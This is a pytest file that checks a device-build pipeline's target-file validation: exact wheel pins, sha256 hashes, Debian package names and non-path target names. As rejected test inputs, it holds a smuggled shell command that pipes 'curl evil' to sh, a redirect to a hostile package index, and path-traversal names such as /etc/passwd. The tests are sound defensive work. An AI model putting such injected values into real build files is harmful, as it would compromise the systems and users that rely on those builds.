"""device.targets: a target file is data that reaches pip, mmdebstrap and Dockerfile lines, so every
list entry is checked, every wheel is pinned by sha256, and target names are names."""

import re

import pytest

from pipeline.device import targets
from pipeline.engine.errors import InputError


def _target(tmp_path, old, new):
    text = (targets.TARGETS_DIR / "rpi5-litert.toml").read_text()
    assert old in text
    (tmp_path / "t.toml").write_text(text.replace(old, new).replace('name = "rpi5-litert"', 'name = "t"'))
    return lambda: targets.load_target("t", tmp_path)


@pytest.mark.parametrize("old, new, message", [
    ('"ai-edge-litert==2.3.0", ', '"--index-url=http://evil/simple", ', "wheels .* must be an exact pin"),
    ('"ai-edge-litert==2.3.0", ', '"ai-edge-litert>=2", ', "must be an exact pin 'name==version'"),
    ('"python3", ', '"python3; curl evil | sh", ', "debian_packages .* must be a Debian package name"),
    ('"manylinux2014_aarch64"', '"any --pre"', "wheel_platforms .* must be a wheel platform tag"),
    ('"numpy==2.2.6" = "b64d', '"numpy==2.2.6" = "XYZ', "must give the sha256"),
    ('"numpy==2.2.6" = ', '"numpy==2.2.7" = ', "must give the sha256 .* of every wheel"),
])
def test_target_file_entries_are_checked(tmp_path, old, new, message):
    with pytest.raises(InputError, match=message):
        _target(tmp_path, old, new)()


@pytest.mark.parametrize("name", ["../targets/rpi5-litert", "/etc/passwd", "", "rpi5 litert"])
def test_a_target_name_is_never_a_path(name):
    with pytest.raises(InputError, match="must be a name"):
        targets.load_target(name)


def test_the_shipped_targets_pin_every_wheel_and_the_dockerfile_quotes_and_checks_them():
    text = targets.dockerfile([targets.load_target(n) for n in targets.available_targets()])
    for name in targets.available_targets():
        t = targets.load_target(name)
        assert set(t.wheel_sha256) == set(t.wheels)
        for pin in t.wheels:
            assert f"'{pin} --hash=sha256:{t.wheel_sha256[pin]}'" in text or not t.emulated
    assert text.count("--require-hashes") == len([n for n in targets.available_targets() if targets.load_target(n).emulated])
    assert not re.search(r"pip install [^\n]*--index-url", text)
